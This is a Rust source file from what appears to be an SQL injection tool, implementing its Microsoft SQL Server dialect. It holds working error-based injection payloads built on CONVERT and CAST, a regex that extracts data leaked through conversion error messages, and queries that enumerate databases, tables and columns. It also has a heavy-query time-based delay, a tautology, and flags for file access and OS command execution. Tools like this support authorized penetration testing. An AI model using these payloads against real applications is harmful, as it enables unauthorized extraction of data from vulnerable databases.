use super::{Capabilities, Dialect, PayloadTemplate};
use crate::sqli::core::enums::DBMS;
use once_cell::sync::Lazy;
use regex::Regex;

static CONVERT_ERROR: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"Conversion failed when converting the n?varchar value '((?:[^']|'')*)' to data type")
        .unwrap()
});

const ERROR_PAYLOADS: &[PayloadTemplate] = &[
    PayloadTemplate {
        name: "convert",
        template: "1=CONVERT(INT,({expr}))",
        dbms: DBMS::MSSQL,
        columns: 1,
    },
    PayloadTemplate {
        name: "cast",
        template: "1=CAST(({expr}) AS INT)",
        dbms: DBMS::MSSQL,
        columns: 1,
    },
];

#[derive(Debug, Clone, Copy, Default)]
pub struct MsSql;

impl Dialect for MsSql {
    fn dbms(&self) -> DBMS {
        DBMS::MSSQL
    }

    fn concatenate(&self, parts: &[&str]) -> String {
        parts.join("+")
    }

    fn length(&self, expr: &str) -> String {
        format!("LEN(({}))", expr)
    }

    fn version_query(&self) -> &'static str {
        "@@VERSION"
    }

    fn current_user_query(&self) -> &'static str {
        "SYSTEM_USER"
    }

    fn current_db_query(&self) -> &'static str {
        "DB_NAME()"
    }

    fn hostname_query(&self) -> &'static str {
        "@@SERVERNAME"
    }

    fn databases_query(&self) -> String {
        "SELECT STUFF((SELECT '|'+name FROM master..sysdatabases FOR XML PATH('')),1,1,'')"
            .to_string()
    }

    fn tables_query(&self, database: &str) -> String {
        format!(
            "SELECT STUFF((SELECT '|'+name FROM {}.sys.tables FOR XML PATH('')),1,1,'')",
            database
        )
    }

    fn columns_query(&self, database: &str, table: &str) -> String {
        format!(
            "SELECT STUFF((SELECT '|'+name FROM {}.sys.columns WHERE object_id=OBJECT_ID({}) FOR XML PATH('')),1,1,'')",
            database,
            self.quote_string(&format!("{}..{}", database, table))
        )
    }

    // WAITFOR only works as a stacked statement
    fn sleep_function(&self, _seconds: u64) -> Option<String> {
        None
    }

    fn heavy_query(&self, _seconds: u64) -> String {
        "(SELECT COUNT(*) FROM sys.all_objects AS a1,sys.all_objects AS a2,sys.all_objects AS a3)"
            .to_string()
    }

    fn error_payloads(&self) -> &'static [PayloadTemplate] {
        ERROR_PAYLOADS
    }

    /// The conversion message doubles embedded quotes
    fn decode_leak(&self, raw: &str) -> String {
        raw.replace("''", "'")
    }

    fn error_pattern(&self) -> Option<&'static Regex> {
        Some(&CONVERT_ERROR)
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities {
            stacked_queries: true,
            error_based: true,
            union: true,
            file_io: true,
            os_exec: true,
            subqueries: true,
            case_when: true,
            limit_offset: false,
        }
    }

    fn tautology(&self) -> &'static str {
        "@@SPID=@@SPID"
    }

    fn marker_wrap(&self, expr: &str) -> String {
        format!("CHAR(126)+CAST(({}) AS NVARCHAR(MAX))+CHAR(126)", expr)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_heavy_fallback_delay() {
        let expr = MsSql.conditional_delay("1=1", 5);
        assert!(expr.starts_with("1=(CASE WHEN (1=1) THEN (SELECT COUNT(*)"));
        assert!(expr.ends_with("ELSE 1 END)"));
    }

    #[test]
    fn test_convert_pattern() {
        let body = "Conversion failed when converting the nvarchar value 'Microsoft SQL Server 2019' to data type int.";
        let caps = MsSql.error_pattern().unwrap().captures(body).unwrap();
        assert_eq!(&caps[1], "Microsoft SQL Server 2019");
    }

    #[test]
    fn test_convert_pattern_keeps_doubled_quotes() {
        let body = "Conversion failed when converting the varchar value 'O''Brien' to data type int.";
        let caps = MsSql.error_pattern().unwrap().captures(body).unwrap();
        assert_eq!(&caps[1], "O''Brien");
        assert_eq!(MsSql.decode_leak(&caps[1]), "O'Brien");
    }
}
